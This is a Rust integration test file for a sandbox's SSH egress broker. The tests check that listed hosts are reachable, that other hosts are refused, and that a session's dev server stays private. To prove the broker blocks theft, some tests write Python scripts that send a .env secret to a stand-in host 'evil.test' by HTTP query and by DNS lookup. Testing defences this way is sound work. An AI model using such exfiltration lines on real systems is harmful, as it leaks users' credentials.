//! The helper's egress broker over SSH, for real (the test sshd of `scripts/test.sh`): the
//! remote shell has a network of its own, reaches servers on the host only through the
//! helper's broker, each connection decided by the server's policies, and its own dev
//! server answers it on `localhost` and nobody outside.

use crate::common::*;
use crate::egress::{
    policies, pypiserver, requirements_naming_an_unlisted_index_are_refused, server,
};
use crate::remote_sessions::{ssh_fixture, ssh_home};
use execkit_runner::Session;

/// An SSH session under the default set with the egress test hosts (`registry.test` and
/// `evil.test` on this machine's loopback, `meta.test` on the metadata address), and its
/// workspace's path here.
pub(crate) async fn brokered_ssh() -> Option<(Session, std::path::PathBuf)> {
    let (t, mut s) = ssh_fixture()?;
    let name = format!("ws-egress-{}", rand_u64());
    s.sandbox.workspace = Some(format!("~/{name}"));
    crate::egress::map_test_hosts(&mut s.sandbox.egress);
    let config = Session::builder().engine(policies()).build().unwrap();
    let session = Session::ssh(&t, &s, config).await.unwrap();
    Some((session, ssh_home(&t.user).join(name)))
}

#[tokio::test]
async fn ssh_listed_hosts_are_reached_through_the_helpers_broker_and_others_refused() {
    let Some((s, ws)) = brokered_ssh().await else {
        return;
    };
    let e = s.info().await.enforcement;
    assert!(e.private_network && e.egress_broker, "{e:?}");
    let port = server("from the registry");
    let r = ok(&s, &format!("curl -sS http://registry.test:{port}/simple/")).await;
    assert_eq!(r.stdout, "from the registry");
    let r = ok(&s, &format!("curl -sS -p http://registry.test:{port}/")).await;
    assert_eq!(r.stdout, "from the registry");
    // A secret carried out by a script: refused at the connection, with host and program.
    std::fs::write(ws.join(".env"), "SECRET_TOKEN=abc\n").unwrap();
    std::fs::write(ws.join("up.py"), format!(
        "import urllib.request\nurllib.request.urlopen('http://evil.test:{port}/?d=' + open('.env').read())\n"
    )).unwrap();
    let r = run(&s, "python3 up.py").await;
    assert_ne!(r.exit_code, Some(0), "{r:?}");
    assert!(r.stderr.contains("403"), "{r:?}");
    let d = refused_at(&r, &format!("evil.test:{port}"));
    assert!(d.program.contains("python3"), "{d:?}");
    // Allowed by name, refused by the address the helper resolved.
    for (name, host, policy) in [
        ("meta.py", "meta.test", "deny-metadata-addresses"),
        ("sneaky.py", "sneaky.test", "deny-private-addresses"),
    ] {
        std::fs::write(
            ws.join(name),
            format!("import urllib.request\nurllib.request.urlopen('http://{host}:{port}/')\n"),
        )
        .unwrap();
        let r = run(&s, &format!("python3 {name}")).await;
        assert_ne!(r.exit_code, Some(0), "{r:?}");
        let d = r.runtime_denials.first().unwrap_or_else(|| panic!("{r:?}"));
        assert!(d.policies.contains(&policy.to_string()), "{name}: {d:?}");
    }
    // Around the proxy there is no way out: no route, no resolver.
    crate::egress::no_way_around_the_proxy(&s, port).await;
    std::fs::write(
        ws.join("dns.py"),
        "import socket\nsocket.getaddrinfo(open('.env').read().strip() + '.evil.test', 80)\n",
    )
    .unwrap();
    let r = run(&s, "python3 dns.py").await;
    assert_ne!(r.exit_code, Some(0), "{r:?}");
    s.close().await;
}

#[tokio::test]
async fn ssh_dev_server_answers_its_session_and_not_the_host() {
    let Some((s, _ws)) = brokered_ssh().await else {
        return;
    };
    // A port free on the host: the session's server binds the same number in its own
    // network.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    ok(&s, "echo hello from the app > index.html").await;
    let _server = s
        .exec(
            &format!("python3 -m http.server {port} --bind 127.0.0.1 >/dev/null 2>&1 &"),
            &Default::default(),
        )
        .await
        .unwrap();
    let r = ok(
        &s,
        &format!("for i in $(seq 50); do curl -sS http://localhost:{port}/index.html 2>/dev/null && break; sleep 0.1; done"),
    )
    .await;
    assert_eq!(r.stdout.trim(), "hello from the app", "{r:?}");
    assert!(
        std::net::TcpStream::connect(("127.0.0.1", port)).is_err(),
        "the session's server answered the host"
    );
    s.close().await;
}

#[tokio::test]
async fn ssh_pip_installs_from_a_listed_index_through_the_helpers_broker() {
    let Some((mut index, port)) = pypiserver() else {
        return;
    };
    let Some((s, ws)) = brokered_ssh().await else {
        let _ = index.kill();
        return;
    };
    ok(&s, "python3 -m venv .venv").await;
    let pip = "PIP_NO_CACHE_DIR=1 PIP_DISABLE_PIP_VERSION_CHECK=1 .venv/bin/pip install -q";
    let r = ok(&s, &format!("{pip} --index-url http://registry.test:{port}/simple/ --trusted-host registry.test six idna && .venv/bin/python -c 'import six; print(six.__version__)'")).await;
    assert_eq!(r.stdout.trim(), "1.17.0", "{r:?}");
    assert!(r.runtime_denials.is_empty(), "{r:?}");
    requirements_naming_an_unlisted_index_are_refused(&s, &ws, port).await;
    s.close().await;
    let _ = index.kill();
    let _ = index.wait();
}
